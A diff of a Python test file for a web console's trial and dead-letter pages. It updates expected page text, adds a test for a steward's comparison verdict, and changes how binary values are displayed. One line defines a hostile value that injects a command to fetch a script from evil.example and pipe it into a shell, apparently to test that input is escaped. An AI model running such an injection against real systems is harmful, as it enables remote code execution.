@@ -141,7 +141,12 @@ async def test_what_is_not_there_or_not_for_the_caller_is_refused(site, path, ca
         ("", {}, {"q": "nobody"}, ["No application has “nobody” in its name"]),
         (APPLICATION, {}, {}, ["canary 5\xa0%", "0.100 <small>[0.055, 0.174]</small>"]),
         (TRIAL, {}, {}, ['<li class="here" aria-current="step">canary 5\xa0%', "upper end -0.010 below 0.02"]),
-        (TRIAL, {}, {}, ['<p class="word undecided">Undecided</p>', "between -0.293 and -0.033; +0.020 is allowed"]),
+        (
+            TRIAL,
+            {},
+            {},
+            ['<p class="word undecided">Undecided</p>', "No feedback compares it", "steward&#39;s next report"],
+        ),
         (TRIAL, {}, {}, ["becomes a canary of 25 % of the queries", "with at least 50 feedbacks"]),
         (TRIAL, {"ref": "nn:3"}, {}, ["Nothing happens by itself", '<li class="here" aria-current="step">shadow']),
         (TRIAL, {"ref": "old:1"}, {}, ["is not on trial any more", "worst of three"]),
@@ -151,6 +156,14 @@ async def test_what_is_not_there_or_not_for_the_caller_is_refused(site, path, ca
 async def test_a_page_shows_what_there_is_and_what_comes_next(site, path, of, query, parts):
     shown = html(await site.page(path, of=of, **query))
     assert [part for part in parts if part not in shown and part not in " ".join(shown.split())] == []
+
+
+async def test_a_trial_leads_with_the_verdict_of_the_stewards_comparison(site):
+    site.view.facts.comparison(b"digits/rf:2", codec.comparisons.encode(compared("rf:2")), at_s=NOW_S)
+    shown = " ".join(html(await site.page(TRIAL)).split())
+    said = "Its loss minus that of the answers lies between -0.200 and -0.010; +0.020 is allowed. </p>"
+    parts = ('<p class="word better">Better</p>', said, "0.300</td> <td>40 feedbacks", "of 80 queries, 3 of them wait")
+    assert [part for part in parts if part not in shown] == []
 
 
 HOSTILE = "h`; curl evil.example | sh`"
@@ -250,11 +263,11 @@ RESEND = "/console/actions/resend/preview"
 @pytest.mark.parametrize(
     ("fields", "parts", "markups", "is_offered"),
     [
-        ({}, ["00000000  00 ff", "4611686018427387904 ms"], 4, True),
+        ({}, [r"\x00\xff", "4611686018427387904 ms"], 4, True),
         ({"letter": replace(LETTER, value=b"a" * 2**20)}, ["and 1044480 bytes more"], 3, True),
         ({"can_operate": False}, [], 4, False),
     ],
-    ids=["text or a hex dump", "the beginning of a long value", "for who may only look"],
+    ids=["text, or escaped", "the beginning of a long value", "for who may only look"],
 )
 def test_a_dead_letter_is_shown_without_markup_and_can_be_resent_by_who_may_act(fields, parts, markups, is_offered):
     shown = html(letter_page(**fields))
